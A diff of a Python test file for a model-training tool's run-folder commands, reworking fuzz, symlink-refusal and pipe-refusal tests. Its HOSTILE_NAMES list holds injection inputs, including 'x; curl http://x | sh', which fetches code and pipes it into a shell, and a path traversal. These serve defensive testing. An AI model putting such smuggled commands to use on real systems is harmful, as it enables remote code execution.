@@ -10,12 +10,11 @@ import re
 import shlex
 import shutil
 import threading
-from collections.abc import Callable
 from contextlib import suppress
 from pathlib import Path
 
 import pytest
-from hypothesis import given
+from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from asyndgan.errors import RunError
@@ -24,10 +23,12 @@ from asyndgan.runs import RunFolder
 from asyndgan.runs.train import train
 from spoiling import asked, changes, fuzz, spoiled
 
+rarely = settings(fuzz, max_examples=settings.default.max_examples // 4)  # each takes a second
+
 
 @pytest.fixture(scope="module")
 def run(tiny, phantoms, tmp_path_factory):
-    recipe = tiny("image.size=32", "training.steps=4", "training.hold_out=0.2")
+    recipe = tiny("image.size=32", "training.steps=2", "training.hold_out=0.2")
     return train(recipe, phantoms, tmp_path_factory.mktemp("run") / "run").path
 
 
@@ -56,7 +57,7 @@ def test_a_run_as_it_was_is_read_by_every_command(run, phantoms, tmp_path):
     painted = [
         re.search(r"^(\d+) (?:synthetic|real|cases)", text, re.MULTILINE) for text in said[1:4]
     ]
-    assert [found and found[1] for found in painted] == ["42", "36", "12"]
+    assert [found and found[1] for found in painted] == ["30", "36", "12"]
     assert (tmp_path / "report" / "page.html").exists()
 
 
@@ -78,7 +79,7 @@ def test_what_a_stranger_says_of_a_sites_evaluation_is_read_or_refused_by_our_er
         assert str(read_evaluation(tmp_path)).isprintable()
 
 
-@fuzz
+@rarely
 @given(changes(), st.sampled_from(COMMANDS))
 def test_what_a_stranger_says_of_a_run_is_read_or_refused_by_our_error(
     run, phantoms, tmp_path, change, name
@@ -87,7 +88,7 @@ def test_what_a_stranger_says_of_a_run_is_read_or_refused_by_our_error(
     ask(name, mine, phantoms, tmp_path / "out")
 
 
-@fuzz
+@rarely
 @given(changes(), st.integers(0, 3))
 def test_what_a_stranger_says_of_a_step_is_read_or_refused_by_our_error(
     run, phantoms, tmp_path, change, line
@@ -98,56 +99,49 @@ def test_what_a_stranger_says_of_a_step_is_read_or_refused_by_our_error(
 
 
 def within(folder: Path) -> list[Path]:
-    """Every file and folder of a run that a reader may open, relative to it."""
-    every = sorted(path.relative_to(folder) for path in folder.rglob("*"))
-    return [path for path in every if path.name != ".held" and path.parts[0] != "tensorboard"]
+    """Every folder of a run, and one file of each, relative to it."""
+    every = [path.relative_to(folder) for path in folder.rglob("*") if path.name != ".held"]
+    files = {path.parent: path for path in every if (folder / path).is_file()}
+    return sorted({*files.values(), *(path for path in every if (folder / path).is_dir())})
 
 
 def test_a_run_with_a_link_anywhere_is_refused_and_nothing_behind_it_read(run, phantoms, tmp_path):
-    mine, twin = tmp_path / "run", tmp_path / "twin"
+    mine, twin, out = tmp_path / "run", tmp_path / "twin", tmp_path / "out"
     shutil.copytree(run, twin)
-    for path in within(run):
+    commands = [
+        ("report", mine, "--out", out / "page.html"), ("generate", mine, "--out", out / "painted"),
+        ("augment", mine, "--site", phantoms["north"], "--out", out / "more"),
+    ]  # fmt: skip
+    found = [path for path in within(run) if path.parts[0] != "tensorboard"]
+    assert len(found) > 5
+    for number, path in enumerate(found):
         shutil.rmtree(mine, ignore_errors=True)
         shutil.copytree(run, mine)
         shutil.rmtree(mine / path) if (mine / path).is_dir() else (mine / path).unlink()
         (mine / path).symlink_to(twin / path)
-        out = tmp_path / "out"
-        for said in (
-            asked("report", mine, "--out", out / "page.html"),
-            asked("generate", mine, "--out", out / "painted"),
-            asked("augment", mine, "--site", phantoms["north"], "--out", out / "more"),
-        ):
-            assert f"{path.name} is a link, and a run folder may hold none" in said
+        for words in commands if number == 0 else commands[:1]:
+            assert f"{path.name} is a link, and a run folder may hold none" in asked(*words)
         assert [*out.rglob("*")] == []
 
 
-@pytest.mark.parametrize(
-    "file", ["recipe.toml", "run.json", "metrics.jsonl", "generator.safetensors", "masks"]
-)
+@pytest.mark.parametrize("file", ["metrics.jsonl", "masks"])
 def test_a_run_with_a_pipe_or_a_folder_for_a_file_is_refused_at_once(run, tmp_path, file):
     mine = spoiled(run, tmp_path / "run", "run.json", lambda facts: facts)
-    place = mine / file
-    if file == "masks":
-        place = min((place / "labelsTr").iterdir())
+    place = min((mine / file / "labelsTr").iterdir()) if file == "masks" else mine / file
     for make in (os.mkfifo, os.mkdir):
-        place.unlink() if place.is_file() or place.is_fifo() else None
+        place.unlink()
         make(place)
-        said = at_once(lambda: asked("report", mine, "--out", tmp_path / "page.html"))
-        said += at_once(lambda: asked("generate", mine, "--out", tmp_path / "painted"))
-        assert place.name in said or "no run folder" in said
+        said: list[str] = []
+        words = ("report", mine, "--out", tmp_path / "page.html")
+        thread = threading.Thread(
+            target=lambda to=said, of=words: to.append(asked(*of)), daemon=True
+        )
+        thread.start()
+        thread.join(60)
+        assert said and (place.name in said[0] or "no run folder" in said[0])
 
 
-def at_once(ask: Callable[[], str]) -> str:
-    """What it says; a pipe that is waited for fails the test."""
-    said: list[str] = []
-    thread = threading.Thread(target=lambda: said.append(ask()), daemon=True)
-    thread.start()
-    thread.join(60)
-    assert said
-    return said[0]
-
-
-HOSTILE_NAMES = ["\x1b]0;owned\x07", "a\u202eb", "x; curl http://x | sh", "../../../etc", "a b", ""]
+HOSTILE_NAMES = ["\x1b]0;owned\x07", "a\u202eb", "x; curl http://x | sh", "../../../etc", ""]
 
 
 @pytest.mark.parametrize("name", HOSTILE_NAMES, ids=ascii)
